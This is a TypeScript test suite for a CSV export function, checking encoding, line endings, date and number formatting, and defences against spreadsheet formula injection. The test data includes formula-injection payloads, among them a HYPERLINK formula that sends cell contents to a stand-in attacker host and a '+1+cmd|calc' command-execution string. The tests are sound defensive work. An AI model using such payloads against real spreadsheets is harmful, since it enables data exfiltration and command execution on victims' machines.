import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { MatchRow } from '../../src/domain/ports.js';
import { COLUMN_NAMES } from '../../src/reports/columns.js';
import { matchesCsv } from '../../src/reports/csv.js';
import { collected } from './collected.js';
import { parseCsv } from './parse-csv.js';
import { sampleRow } from './samples.js';

const csvOf = (rows: readonly MatchRow[], timeZone?: string) =>
  collected(matchesCsv(rows, timeZone));
const cellsOf = async (row: MatchRow): Promise<Readonly<Record<string, string>>> => {
  const [header = [], line = []] = parseCsv(await csvOf([row]));
  return Object.fromEntries(header.map((name, column) => [name, line[column] ?? '']));
};

const FORMULA_CHARACTERS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const hostileText = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.constantFrom(...FORMULA_CHARACTERS, '"', ',', "'", '\r\n'), fc.string())
    .map(([head, tail]) => head + tail),
);

describe('matchesCsv', () => {
  it('begins with the byte order mark and the columns, and ends lines with CRLF', async () => {
    const text = await csvOf([sampleRow()]);
    expect(text.startsWith(`\uFEFFalertId,state,caseId,`)).toBe(true);
    expect(Buffer.from(text).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(text.split('\r\n')).toHaveLength(3);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('has a header also where there are no rows', async () => {
    expect(parseCsv(await csvOf([]))).toEqual([COLUMN_NAMES]);
  });

  it('takes rows as they come', async () => {
    async function* rows() {
      yield await Promise.resolve(sampleRow());
      yield sampleRow();
    }
    expect(parseCsv(await collected(matchesCsv(rows())))).toHaveLength(3);
  });

  it('writes dates with their offset, booleans as words and null as nothing', async () => {
    const [, line = []] = parseCsv(await csvOf([sampleRow()], 'Asia/Seoul'));
    const cell = (name: keyof MatchRow) => line[COLUMN_NAMES.indexOf(name)];
    expect(cell('firstSeenAt')).toBe('2026-04-12T03:15:07.250+09:00');
    expect(cell('minor')).toBe('false');
    expect(cell('decidedAt')).toBe('');
    expect(cell('foundFromMs')).toBe('');
  });

  it('keeps numbers numbers, negative and zero too', async () => {
    const cells = await cellsOf(sampleRow({ distance: 0, score: -3, foundFromMs: 0 }));
    expect(cells['distance']).toBe('0');
    expect(cells['score']).toBe('-3');
    expect(cells['foundFromMs']).toBe('0');
  });

  it.each([
    ['=HYPERLINK("https://evil.example?"&A1)'],
    ['+1+cmd|calc'],
    ['-2+3'],
    ['@SUM(A1)'],
    ['\t=1'],
    ['\r=1'],
    ['\n=1'],
    ['＝1＋1'],
  ])('neutralises %j', async (pageTitle) => {
    expect((await cellsOf(sampleRow({ pageTitle })))['pageTitle']).toBe(`'${pageTitle}`);
  });

  it('gives back every text through a CSV parser, and never begins a cell like a formula', async () => {
    await fc.assert(
      fc.asyncProperty(hostileText, hostileText, async (pageTitle, decidedBy) => {
        const cells = await cellsOf(sampleRow({ pageTitle, decidedBy }));
        for (const [name, text] of [
          ['pageTitle', pageTitle],
          ['decidedBy', decidedBy],
        ] as const) {
          const isFormula = FORMULA_CHARACTERS.some((character) => text.startsWith(character));
          expect(cells[name]).toBe(isFormula ? `'${text}` : text);
        }
        for (const [name, cell] of Object.entries(cells)) {
          if (typeof sampleRow()[name as keyof MatchRow] === 'number') continue;
          expect(FORMULA_CHARACTERS.some((character) => cell.startsWith(character))).toBe(false);
        }
      }),
    );
  });
});
